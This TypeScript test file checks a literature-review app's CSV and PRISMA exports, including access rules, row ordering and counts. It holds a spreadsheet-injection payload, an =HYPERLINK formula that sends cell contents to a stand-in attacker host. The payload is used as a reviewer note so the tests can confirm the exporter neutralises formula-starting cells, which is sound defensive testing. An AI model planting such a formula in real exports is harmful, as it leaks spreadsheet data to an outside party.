import { parse } from 'csv-parse/sync'
import { asc } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { decisions, records, resolutions } from '../../src/db/schema.ts'
import { prismaInvariants, prismaRows, type Prisma } from '../../src/domain/prisma.ts'
import { csvLines, neutralise } from '../../src/http/csv.ts'
import { reviewTeam } from '../helpers/team.ts'
import { distinctRecords, risFile } from '../helpers/ris.ts'

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'

async function setup() {
  const team = await reviewTeam()
  const rs = distinctRecords(4, 'Exported')
  rs[1] = { ...rs[1]!, title: '+Plus-sign title, with "quotes"' }
  await team.upload('Scopus', risFile(rs))
  await team.upload('Trials', risFile([...distinctRecords(1, 'Trial'), rs[0]!]), 'register')
  const rows = await team.db.orm.select().from(records).orderBy(asc(records.id))
  const ids = rows.map((r) => r.id)
  const vote = async (client: typeof team.a, id: number, decision: string, note = '') => {
    const res = await team.vote(client, id, decision, { note })
    expect(res.status).toBe(303)
    team.clock.now += 1000
  }
  return { ...team, rows, ids, vote }
}

/** A short history: a changed vote, an undo, a conflict resolved with a hostile note. */
async function history() {
  const s = await setup()
  const [r0, r1] = s.ids as [number, number]
  await s.vote(s.a, r0, 'include', INJECTION)
  await s.vote(s.b, r0, 'exclude', '@SUM(1+1)')
  await s.vote(s.a, r1, 'exclude')
  await s.vote(s.a, r1, 'maybe', '-2 is not a formula either')
  const undo = await s.a.post(`${s.base}/screen/undo`)
  expect(undo.status).toBe(303)
  s.clock.now += 1000
  const res = await s.leadClient.post(`${s.base}/records/${r0}/resolution`, {
    stage: 'title_abstract',
    decision: 'include',
    note: '+1 agreed after discussion',
  })
  expect(res.status).toBe(303)
  return s
}

describe('decisions.csv', () => {
  it('is a download for the lead, with every decision, withdrawal and resolution in order', async () => {
    const { leadClient, base, project, ids, rows, clock } = await history()
    const res = await leadClient.get(`${base}/export/decisions.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="decisions-project-${project.id}.csv"`
    )
    const table = parse(await res.text()) as string[][]
    expect(table[0]).toEqual([
      'type',
      'record_id',
      'title',
      'stage',
      'reviewer',
      'email',
      'decision',
      'reason',
      'note',
      'time',
    ])
    const body = table.slice(1)
    expect(body.map((r) => [r[0], Number(r[1]), r[4], r[6]])).toEqual([
      ['decision', ids[0], 'Ann Assistant', 'include'],
      ['decision', ids[0], 'Bob Second', 'exclude'],
      ['decision', ids[1], 'Ann Assistant', 'exclude'],
      ['decision', ids[1], 'Ann Assistant', 'maybe'],
      ['decision', ids[1], 'Ann Assistant', 'withdrawn'],
      ['resolution', ids[0], 'Lena Lead', 'include'],
    ])
    expect(body[0]!.slice(2, 6)).toEqual([
      rows[0]!.title,
      'title_abstract',
      'Ann Assistant',
      'ann@example.org',
    ])
    // A quoted title with a comma survives; the leading + is neutralised.
    expect(body[2]![2]).toBe(`'${rows[1]!.title}`)
    expect(body[0]![9]).toBe('2026-11-27T09:00:00.000Z')
    expect(body[5]![9]).toBe(new Date(clock.now).toISOString())
    expect(body.every((r) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(r[9]!))).toBe(true)
  })

  it('neutralises spreadsheet formulas in every cell people typed', async () => {
    const { leadClient, base } = await history()
    const text = await (await leadClient.get(`${base}/export/decisions.csv`)).text()
    const notes = (parse(text) as string[][]).slice(1).map((r) => r[8])
    expect(notes).toEqual([
      `'${INJECTION}`,
      "'@SUM(1+1)",
      '',
      "'-2 is not a formula either",
      '',
      "'+1 agreed after discussion",
    ])
    // No cell of the file starts a formula.
    for (const row of parse(text) as string[][]) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  it('is for leads only', async () => {
    const { a, base } = await history()
    const res = await a.get(`${base}/export/decisions.csv`)
    expect(res.status).toBe(403)
    expect(await res.text()).not.toContain('HYPERLINK')
  })

  it('streams a large history in order, with resolutions merged in by time', async () => {
    const s = await setup()
    const t0 = s.clock.now
    await s.db.write(async (tx) => {
      const rows = Array.from({ length: 2500 }, (_, i) => ({
        projectId: s.project.id,
        recordId: s.ids[i % 4]!,
        stage: 'title_abstract' as const,
        userId: i % 2 === 0 ? s.ann.id : s.bob.id,
        decision: 'include',
        note: `vote ${i}`,
        createdAt: t0 + i,
      }))
      for (let i = 0; i < rows.length; i += 500)
        await tx.insert(decisions).values(rows.slice(i, i + 500))
      await tx.insert(resolutions).values(
        [1499.5, 2400.5].map((at) => ({
          projectId: s.project.id,
          recordId: s.ids[0]!,
          stage: 'title_abstract' as const,
          userId: s.lead.id,
          decision: 'exclude',
          note: `resolved at ${at}`,
          createdAt: Math.ceil(t0 + at),
        }))
      )
    })
    const text = await (await s.leadClient.get(`${s.base}/export/decisions.csv`)).text()
    const notes = (parse(text) as string[][]).slice(1).map((r) => r[8])
    expect(notes).toHaveLength(2502)
    // Same millisecond: the resolution follows the vote.
    expect(notes.slice(1499, 1502)).toEqual(['vote 1499', 'vote 1500', 'resolved at 1499.5'])
    expect(notes.slice(2401, 2404)).toEqual(['vote 2400', 'vote 2401', 'resolved at 2400.5'])
    expect(notes.at(-1)).toBe('vote 2499')
  })

  it('has just the header when nothing was decided', async () => {
    const s = await setup()
    const text = await (await s.leadClient.get(`${s.base}/export/decisions.csv`)).text()
    expect(text).toBe('type,record_id,title,stage,reviewer,email,decision,reason,note,time\n')
  })
})

describe('prisma.json and prisma.csv', () => {
  it('gives exactly the SPEC §2.9 keys to any member, and the counts add up', async () => {
    const { a, base } = await history()
    const res = await a.get(`${base}/prisma.json`)
    expect(res.status).toBe(200)
    const p = (await res.json()) as Prisma
    expect(Object.keys(p)).toEqual(['identification', 'screening', 'included', 'pending'])
    expect(Object.keys(p.identification)).toEqual([
      'databases',
      'registers',
      'records_identified',
      'duplicates_removed',
      'automation_removed',
      'other_removed',
    ])
    expect(Object.keys(p.screening)).toEqual([
      'records_screened',
      'records_excluded',
      'reports_sought',
      'reports_not_retrieved',
      'reports_assessed',
      'reports_excluded',
    ])
    expect(Object.keys(p.included)).toEqual(['studies', 'reports'])
    expect(Object.keys(p.pending)).toEqual(['title_abstract', 'conflicts', 'full_text'])
    expect(prismaInvariants(p)).toEqual([])
    expect(p.identification).toMatchObject({
      databases: { Scopus: 4 },
      registers: { Trials: 2 },
      records_identified: 6,
      duplicates_removed: 1,
    })
    // 5 unique records: record 1 resolved to include, the other 4 waiting.
    expect(p.screening).toMatchObject({ records_screened: 5, reports_sought: 1 })
    expect(p.pending).toEqual({ title_abstract: 4, conflicts: 0, full_text: 1 })
  })

  it('gives the same counts as a box,n CSV download', async () => {
    const { b, base, project } = await history()
    const p = (await (await b.get(`${base}/prisma.json`)).json()) as Prisma
    const res = await b.get(`${base}/prisma.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="prisma-project-${project.id}.csv"`
    )
    const table = parse(await res.text()) as string[][]
    expect(table[0]).toEqual(['box', 'n'])
    expect(table.slice(1)).toEqual(prismaRows(p).map(([box, n]) => [box, String(n)]))
    expect(table).toContainEqual(['identification.databases.Scopus', '4'])
  })
})

describe('the CSV helper', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-3 months', "'-3 months"],
    ['@user', "'@user"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ['plain = fine', 'plain = fine'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ])('neutralise(%j) = %j', (cell, expected) => {
    expect(neutralise(cell)).toBe(expected)
  })

  it('quotes commas, quotes and line breaks, and leaves numbers and nulls alone', () => {
    expect(csvLines([['a,b', 'say "hi"', 'two\nlines', -1, null]])).toBe(
      '"a,b","say ""hi""","two\nlines",-1,\n'
    )
    expect(csvLines([])).toBe('')
  })
})
